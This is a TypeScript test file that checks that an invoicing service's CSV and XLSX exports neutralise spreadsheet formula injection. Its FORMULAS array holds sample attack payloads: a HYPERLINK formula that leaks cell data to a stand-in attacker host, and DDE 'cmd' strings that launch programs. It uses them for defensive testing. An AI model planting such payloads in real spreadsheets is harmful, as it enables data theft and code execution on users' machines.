/**
 * docs/security.md "Exports": every CSV and XLSX the service writes neutralises text that a
 * spreadsheet would run as a formula (=, +, -, @, tab, CR). The test plants such text in every
 * free-text field that reaches an export (a contractor's invoice reference and line descriptions, a
 * payment reference, names of the contractor, tenant and job), then walks every export: the two
 * accounting CSVs and every report of GET /api/reports in both formats, and reads each cell back.
 * A source check makes sure every module that writes CSV or XLSX goes through the one helper.
 */
import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startsFormula } from '../../src/lib/spreadsheet-safe.ts';
import { buildTestApp, type TestApp } from '../helpers/app.ts';
import { moneyWorld } from '../money/money/world.ts';

/** One text per dangerous first character. */
export const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"Ref")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+9)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

let t: TestApp;
let w: Awaited<ReturnType<typeof moneyWorld>>;

beforeAll(async () => {
  t = await buildTestApp();
  w = await moneyWorld(t);
  const lines = FORMULAS.map((description, i) => ({ description, quantity: 1, unit_price_pence: 1_000 + i, vat_rate: 'standard' }));
  const inv = await w.contractor.client.post('/api/invoices', { job_uuid: w.completed.uuid, lines, contractor_reference: FORMULAS[0], supplier_invoice_date: '2026-11-20' });
  expect(inv.statusCode, inv.body).toBe(201);
  const uuid = inv.json().data.uuid as string;
  expect((await w.adminA.client.post(`/api/invoices/${uuid}/issue`)).statusCode).toBe(200);
  const paid = await w.adminA.client.post(`/api/invoices/${uuid}/payments`, { amount_pence: 500, paid_on: '2026-11-21', method: 'bank_transfer', reference: FORMULAS[3] });
  expect(paid.statusCode, paid.body).toBe(201);
  // Names typed by staff elsewhere, set directly: they reach the reports.
  await t.db.updateTable('contractors').set({ company_name: FORMULAS[1] }).where('id', '=', w.contractorId).execute();
  await t.db.updateTable('tenants').set({ name: FORMULAS[2] }).where('agency_id', '=', w.agencyA.id).execute();
  await t.db.updateTable('jobs').set({ title: FORMULAS[4] }).where('id', '=', w.completed.id).execute();
});
afterAll(async () => t?.close());

/** Every cell of a CSV download. */
function csvCells(body: string): string[] {
  return (parse(body, { relax_column_count: true }) as string[][]).flat();
}

/** Every text cell of an XLSX download. */
async function xlsxCells(bytes: Buffer): Promise<string[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  const out: string[] = [];
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => {
    if (cell.type === ExcelJS.ValueType.Formula) out.push(`=${String(cell.formula)}`);
    else if (typeof cell.value === 'string') out.push(cell.value);
  })));
  return out;
}

describe('formula injection in exports', () => {
  it('walks every CSV and XLSX export: no cell starts a formula, and the planted text is there, quoted', async () => {
    const downloads: Array<[string, string[]]> = [];
    for (const url of ['/api/invoices/export/bills.csv', '/api/invoices/export/payments.csv']) {
      const res = await w.adminA.client.get(url);
      expect(res.statusCode, url).toBe(200);
      downloads.push([url, csvCells(res.body)]);
    }
    for (const pkg of ['xero', 'quickbooks', 'sage']) {
      for (const url of [`/api/invoices/export/${pkg}/bills`, `/api/invoices/export/${pkg}/payments`, `/api/recharges/export/${pkg}`]) {
        for (const format of ['csv', 'xlsx']) {
          const res = await w.adminA.client.get(`${url}?format=${format}`);
          expect(res.statusCode, url).toBe(200);
          downloads.push([url, format === 'csv' ? csvCells(res.body) : await xlsxCells(res.rawPayload)]);
        }
      }
    }
    const reports = (await w.adminA.client.get('/api/reports')).json().data as Array<{ name: string; formats: string[] }>;
    expect(reports.length).toBeGreaterThanOrEqual(5);
    for (const r of reports) {
      for (const format of r.formats) {
        const url = `/api/reports/${r.name}?format=${format}`;
        const res = await w.adminA.client.get(url);
        expect(res.statusCode, url).toBe(200);
        downloads.push([url, format === 'csv' ? csvCells(res.body) : await xlsxCells(res.rawPayload)]);
      }
    }
    const quoted = new Set<string>();
    for (const [url, cells] of downloads) {
      for (const cell of cells) {
        expect(startsFormula(cell), `${url}: ${JSON.stringify(cell)}`).toBe(false);
        if (cell.startsWith("'")) quoted.add(cell.slice(1));
      }
    }
    // Every planted text came out, neutralised (the payment's amount "-5.00" stays a number).
    for (const f of FORMULAS) expect([...quoted].some((q) => q.includes(f.trim())), JSON.stringify(f)).toBe(true);
    const payments = downloads.find(([u]) => u.endsWith('payments.csv'))![1];
    expect(payments).toContain('-5.00');
  });

  it('every module that writes CSV or XLSX goes through src/lib/spreadsheet-safe.ts', async () => {
    const root = path.resolve(import.meta.dirname, '../../src');
    const files = (await readdir(root, { recursive: true })).filter((f) => f.endsWith('.ts'));
    const writers: string[] = [];
    for (const f of files) {
      const text = await readFile(path.join(root, f), 'utf8');
      // A writer imports csv-stringify, or exceljs and calls one of its writing APIs; a module that
      // only reads an uploaded workbook (exceljs `xlsx.load`, csv-parse) writes no cell.
      const stringifies = /from 'csv-stringify(\/sync)?'/.test(text);
      const writesXlsx = /from 'exceljs'/.test(text) && /WorkbookWriter|\.addRow\(|\.addRows\(|\.writeBuffer\(|\.(xlsx|csv)\.write(File)?\(/.test(text);
      if (!stringifies && !writesXlsx) continue;
      writers.push(f);
      expect(text, f).toMatch(/from '[./]+\/lib\/spreadsheet-safe\.ts'/);
    }
    expect(writers.sort()).toEqual([
      'modules/insight/reports/reports.render.ts', 'modules/money/money/accounting-sheet.ts', 'modules/money/money/invoice-csv.ts',
      'modules/money/recharges/statement-render.ts', 'modules/platform/agencies/export.service.ts', 'modules/platform/imports/imports.service.ts',
    ]);
  });
});
